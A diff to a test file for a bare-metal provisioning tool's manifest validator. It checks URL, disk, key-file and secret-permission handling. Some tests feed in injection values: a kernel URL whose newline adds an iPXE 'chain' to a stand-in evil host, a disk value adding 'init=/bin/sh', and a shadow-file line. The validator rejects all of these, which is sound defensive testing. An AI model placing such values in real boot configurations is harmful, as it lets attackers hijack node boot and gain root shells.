@@ -1,8 +1,10 @@
 // Manifest validation: one failing manifest per rule, each asserting where the error points.
 // Manifests are built as YAML text from the shipped lab inventory so that line numbers are real;
 // expected lines are found by searching the edited text, never hard-coded.
-import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { execFileSync } from 'node:child_process';
+import { chmodSync, mkdirSync, readFileSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
+import ssh2 from 'ssh2';
 import { describe, expect, it } from 'vitest';
 import { diagnosticsJson } from '../../src/cli/output.js';
 import {
@@ -11,6 +13,7 @@ import {
   intToIp,
   loadRegion,
   type Diagnostic,
+  type LoadResult,
 } from '../../src/manifest/index.js';
 import { plannedFabricAddresses } from '../../src/manifest/rules/addresses.js';
 import { planRegion } from '../../src/plan/index.js';
@@ -82,6 +85,17 @@ function dropLines(text: string, needle: string): string {
 }
 
 const FILE = 'lab.yaml';
+
+/**
+ * The text without its BMC sections. Outside the lab profile, BMC credentials files must exist (the
+ * lab generates its own): tests about the OS profile alone give no BMC access.
+ */
+function noBmc(text: string): string {
+  return text
+    .split('\n')
+    .filter((l) => !/^\s*bmc: \{/.test(l))
+    .join('\n');
+}
 
 /** Loads the text as lab.yaml in a temp folder; expects it to be rejected and returns the errors. */
 function errorsOf(text: string): Diagnostic[] {
@@ -1165,14 +1179,6 @@ describe('addresses and keys', () => {
 });
 
 describe('OS profile', () => {
-  // Outside the lab profile, BMC credentials files must exist (the lab generates its own): these
-  // tests are about the OS profile alone, so their manifests give no BMC access.
-  const noBmc = (text: string) =>
-    text
-      .split('\n')
-      .filter((l) => !/^\s*bmc: \{/.test(l))
-      .join('\n');
-
   it('reports a custom profile without an image or an installer at the os section', () => {
     const text = edit(noBmc(lab), 'profile: lab-debian', 'profile: custom');
     const errors = errorsOf(text);
@@ -1229,6 +1235,76 @@ describe('OS profile', () => {
   });
 });
 
+describe('installer and image URLs', () => {
+  const KERNEL = 'https://images.example.test/vmlinuz';
+  const INITRD = 'https://images.example.test/initrd.img';
+  const IMAGE = 'https://images.example.test/debian.raw.gz';
+  /** A custom profile whose installer and image come from the given URLs (YAML double-quoted). */
+  const custom = (kernel: string, initrd = INITRD, image = IMAGE) =>
+    edit(
+      noBmc(lab),
+      'profile: lab-debian\n',
+      [
+        'profile: custom',
+        `  image: { source: ${JSON.stringify(image)}, sha256: '${'0'.repeat(64)}' }`,
+        '  installer:',
+        `    kernel: ${JSON.stringify(kernel)}`,
+        `    initrd: ${JSON.stringify(initrd)}`,
+        "  sshAuthorizedKeys: ['ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl sre']",
+        '',
+      ].join('\n'),
+    );
+
+  it('accepts http and https URLs with percent-encoded characters (the baseline)', () => {
+    const text = custom('http://images.example.test/a%20b/vmlinuz?v=1&x=$y');
+    const result = loadText(text, FILE);
+    expect(result.diagnostics.map((d) => formatDiagnostic(d))).toEqual([]);
+    expect(result.ok).toBe(true);
+  });
+
+  it('reports a kernel URL with a newline that would add an iPXE command, at its line', () => {
+    const text = custom(`${KERNEL}\nchain http://evil.example.test/x`);
+    expectOnlyError(text, {
+      code: 'invalid-url',
+      line: lineOf(text, 'kernel: "'),
+      path: 'os.installer.kernel',
+      message: `${JSON.stringify(`${KERNEL}\nchain http://evil.example.test/x`)} holds a newline, which would split the boot script's command`,
+      hint: 'give an http:// or https:// URL with its special characters percent-encoded (a space is %20), or a path beside the manifest',
+    });
+  });
+
+  it('reports an initrd URL with an iPXE setting expansion, and an image URL with a space, all at once', () => {
+    const text = custom(KERNEL, `${INITRD}?\${net0/mac}`, 'https://images.example.test/my image.raw.gz');
+    const errors = errorsOf(text);
+    expect(codes(errors)).toEqual(['invalid-url', 'invalid-url']);
+    const [image, initrd] = [...errors].sort((a, b) => a.position.line - b.position.line);
+    expect(formatPath(image!.path)).toBe('os.image.source');
+    expect(image!.position.line).toBe(lineOf(text, 'my image.raw.gz'));
+    expect(image!.message).toContain("holds a space, which would split the boot script's command");
+    expect(formatPath(initrd!.path)).toBe('os.installer.initrd');
+    expect(initrd!.position.line).toBe(lineOf(text, 'initrd: "'));
+    expect(initrd!.message).toContain('holds "${", which iPXE expands as a setting');
+  });
+
+  it('reports a URL of another scheme instead of looking for it as a file, and quotes and control characters', () => {
+    const errors = errorsOf(custom('ftp://images.example.test/vmlinuz', `${INITRD}"`));
+    expect(errors.map((d) => [formatPath(d.path), d.code, d.message])).toEqual([
+      [
+        'os.installer.kernel',
+        'invalid-url',
+        '"ftp://images.example.test/vmlinuz" is a ftp: URL; nodes fetch over http or https only',
+      ],
+      [
+        'os.installer.initrd',
+        'invalid-url',
+        `${JSON.stringify(`${INITRD}"`)} holds ", which a boot script would not pass on as it is`,
+      ],
+    ]);
+    const tab = one(errorsOf(custom(`${KERNEL}\u0007`)), 'invalid-url');
+    expect(tab.message).toContain('holds the control character U+0007');
+  });
+});
+
 describe('hardware catalog', () => {
   /** Writes lab.yaml with an extra catalog folder `hw` holding `files`, and loads it. */
   function withCatalog(files: Record<string, string>, change: (t: string) => string = (t) => t) {
@@ -1272,6 +1348,31 @@ describe('hardware catalog', () => {
     expect(d.message).toMatch(/^catalog entry bad-sku\.yaml: /);
     expect(formatPath(d.path)).toBe('firmware');
     expect(result.diagnostics).toHaveLength(1);
+  });
+
+  it('reports a SKU install disk that would add kernel arguments, at its line', () => {
+    const sku = (disk: string) =>
+      [
+        'kind: NodeSku',
+        'name: odd-disk',
+        'vendor: Example',
+        'firmware: uefi',
+        `disk: ${disk}`,
+        'nics:',
+        '  - { name: nic0, speed: 25000 }',
+        '',
+      ].join('\n');
+    for (const disk of ['"/dev/sda init=/bin/sh"', '"/dev/sda\\nshell"', "'/dev/${net0/mac}'", 'sda']) {
+      const { result } = withCatalog({ 'odd-disk.yaml': sku(disk) });
+      expect(result.ok).toBe(false);
+      const d = one(result.diagnostics, 'catalog-schema');
+      expect(formatPath(d.path)).toBe('disk');
+      expect(d.position.line).toBe(lineOf(sku(disk), 'disk:'));
+      expect(d.message).toContain('must be a device path such as /dev/sda');
+    }
+    expect(
+      withCatalog({ 'odd-disk.yaml': sku('/dev/disk/by-id/nvme-EXAMPLE_SSD_1TB_S4EWNX0R123456') }).result.ok,
+    ).toBe(true);
   });
 
   it('reports a ToR whose model names no MCLAG peer-link ports, at its model', () => {
@@ -1347,7 +1448,112 @@ describe('unreadable manifest paths', () => {
       code: 'unreadable',
       position: { file, line: 1, column: 1 },
     });
-    expect(result.diagnostics[0]!.message).toMatch(/^cannot read the manifest: ENAMETOOLONG/);
+    expect(result.diagnostics[0]!.message).toBe('the manifest cannot be read (ENAMETOOLONG)');
+  });
+});
+
+describe('manifests and named files that are not small regular files', () => {
+  it('reports a manifest that is a FIFO at once, without waiting for a writer', () => {
+    const file = join(tempDir(), 'lab.yaml');
+    execFileSync('mkfifo', [file]);
+    const result = loadRegion(file);
+    expect(result.ok).toBe(false);
+    expect(result.diagnostics.map((d) => [d.code, d.message, d.position.line])).toEqual([
+      ['unreadable', 'the manifest is a FIFO (named pipe), not a regular file', 1],
+    ]);
+  });
+
+  it('reports a manifest that is a character device, and one larger than 16 MiB, without reading them', () => {
+    expect(loadRegion('/dev/zero').diagnostics.map((d) => d.message)).toEqual([
+      'the manifest is a character device, not a regular file',
+    ]);
+    const big = join(tempDir(), 'big.yaml');
+    writeFileSync(big, '');
+    truncateSync(big, 17 * 1024 * 1024);
+    expect(loadRegion(big).diagnostics.map((d) => [d.code, d.message])).toEqual([
+      ['unreadable', 'the manifest is 17 MiB, more than the 16 MiB it may be'],
+    ]);
+  });
+
+  it('reports a BMC credentials file that is a FIFO, and one larger than a credentials file can be, at its field', () => {
+    const dir = tempDir();
+    const creds = join(dir, 'lab-bmc.credentials.yaml');
+    execFileSync('mkfifo', ['-m', '600', creds]);
+    writeFileSync(join(dir, FILE), lab);
+    const fifo = one(loadRegion(join(dir, FILE)).diagnostics, 'not-regular-file');
+    expect(fifo.position.line).toBe(lineOf(lab, 'credentialsFile: lab-bmc.credentials.yaml'));
+    expect(fifo.message).toBe(
+      'lab-bmc.credentials.yaml is not a regular file (a FIFO, a device or a socket)',
+    );
+    rmSync(creds);
+    writeFileSync(creds, '', { mode: 0o600 });
+    truncateSync(creds, 1024 * 1024);
+    const big = one(loadRegion(join(dir, FILE)).diagnostics, 'file-too-large');
+    expect(formatPath(big.path)).toBe('racks[0].bmc.credentialsFile');
+    expect(big.message).toBe('lab-bmc.credentials.yaml is 1 MiB, more than the 64 KiB it may be');
+  });
+});
+
+describe('SSH public key files', () => {
+  const pair = () => ssh2.utils.generateKeyPairSync('ed25519', { comment: 'sre@example.test' });
+  /** lab.yaml naming keys/sre.pub (written with `content`) in sshAuthorizedKeyFiles. */
+  function withKeyFile(content: string, name = 'keys/sre.pub'): { result: LoadResult; text: string } {
+    const dir = tempDir();
+    mkdirSync(join(dir, 'keys'));
+    writeFileSync(join(dir, name), content);
+    const text = edit(
+      lab,
+      'profile: lab-debian\n',
+      `profile: lab-debian\n  sshAuthorizedKeyFiles: [${name}]\n`,
+    );
+    writeFileSync(join(dir, FILE), text);
+    return { result: loadRegion(join(dir, FILE)), text };
+  }
+
+  it('accepts OpenSSH public keys with comments and blank lines (the baseline)', () => {
+    const rsa = ssh2.utils.generateKeyPairSync('rsa', { bits: 2048 }).public;
+    const { result } = withKeyFile(`# SREs\n\n${pair().public}\n${rsa}\n`);
+    expect(result.diagnostics).toEqual([]);
+    expect(result.ok).toBe(true);
+  });
+
+  it('refuses an OpenSSH private key by name, at the field', () => {
+    const { result, text } = withKeyFile(pair().private, 'keys/id_ed25519');
+    const d = one(result.diagnostics, 'private-key-file');
+    expect(d.message).toBe('keys/id_ed25519 is an OpenSSH private key; give its .pub');
+    expect(d.position.line).toBe(lineOf(text, 'sshAuthorizedKeyFiles: [keys/id_ed25519]'));
+    expect(formatPath(d.path)).toBe('os.sshAuthorizedKeyFiles[0]');
+    expect(formatDiagnostic(d)).not.toContain('PRIVATE KEY');
+  });
+
+  it('refuses a shadow file and a key whose blob is another type, naming the line, never its text', () => {
+    const shadow = withKeyFile('root:$6$salt$hash:19000:0:99999:7:::\n', 'keys/shadow');
+    const d = one(shadow.result.diagnostics, 'invalid-key-file');
+    expect(d.message).toBe(
+      'keys/shadow line 1 does not start with a known OpenSSH key type (ssh-ed25519, ssh-rsa, ecdsa-sha2-nistp256, …)',
+    );
+    expect(formatDiagnostic(d)).not.toContain('$6$');
+    const relabelled = pair().public.replace(/^ssh-ed25519 /, 'ssh-rsa ');
+    const mismatch = one(
+      withKeyFile(`${pair().public}\n${relabelled}\n`).result.diagnostics,
+      'invalid-key-file',
+    );
+    expect(mismatch.message).toBe('keys/sre.pub line 2 has a key that is not a ssh-rsa key');
+    const noBlob = one(withKeyFile('ssh-ed25519 not*base64 sre\n').result.diagnostics, 'invalid-key-file');
+    expect(noBlob.message).toBe('keys/sre.pub line 1 has no base64 key after ssh-ed25519');
+    const empty = one(withKeyFile('# nobody yet\n').result.diagnostics, 'invalid-key-file');
+    expect(empty.message).toBe('keys/sre.pub line 1 holds no public key');
+  });
+
+  it('refuses a device as a key file instead of reading it into every seed', () => {
+    const text = edit(
+      lab,
+      'profile: lab-debian\n',
+      'profile: lab-debian\n  sshAuthorizedKeyFiles: [/dev/zero]\n',
+    );
+    const d = one(errorsOf(text), 'not-regular-file');
+    expect(d.message).toBe('/dev/zero is not a regular file (a FIFO, a device or a socket)');
+    expect(d.position.line).toBe(lineOf(text, 'sshAuthorizedKeyFiles: [/dev/zero]'));
   });
 });
 
@@ -1375,12 +1581,32 @@ describe('referenced files', () => {
   it("resolves a passwordFile relative to the manifest's folder", () => {
     const dir = tempDir();
     mkdirSync(join(dir, 'secrets'));
-    writeFileSync(join(dir, 'secrets/transit-a.pass'), 'hunter2\n');
+    writeFileSync(join(dir, 'secrets/transit-a.pass'), 'hunter2\n', { mode: 0o600 });
     const file = join(dir, FILE);
     writeFileSync(file, withPassword);
     const result = loadRegion(file);
     expect(result.diagnostics).toEqual([]);
     expect(result.ok).toBe(true);
+  });
+
+  it('refuses a BGP passwordFile that group or others may read, as it refuses BMC credentials', () => {
+    for (const mode of [0o644, 0o640, 0o604]) {
+      const dir = tempDir();
+      mkdirSync(join(dir, 'secrets'));
+      writeFileSync(join(dir, 'secrets/transit-a.pass'), 'hunter2\n');
+      chmodSync(join(dir, 'secrets/transit-a.pass'), mode);
+      writeFileSync(join(dir, FILE), withPassword);
+      const result = loadRegion(join(dir, FILE));
+      expect(result.ok).toBe(false);
+      const d = one(result.diagnostics, 'loose-secret-file');
+      expect(d.severity).toBe('error');
+      expect(d.position.line).toBe(lineOf(withPassword, 'passwordFile:'));
+      expect(formatPath(d.path)).toMatch(/^racks\[0\]\.switches\[\d\]\.upstreams\[0\]\.passwordFile$/);
+      expect(d.message).toBe(
+        `secrets/transit-a.pass holds credentials but other users may read it (mode 0${mode.toString(8)})`,
+      );
+      expect(d.hint).toMatch(/^chmod 600 .*secrets\/transit-a\.pass$/);
+    }
   });
 
   it('reports a missing os.sshAuthorizedKeyFiles entry, naming the field', () => {
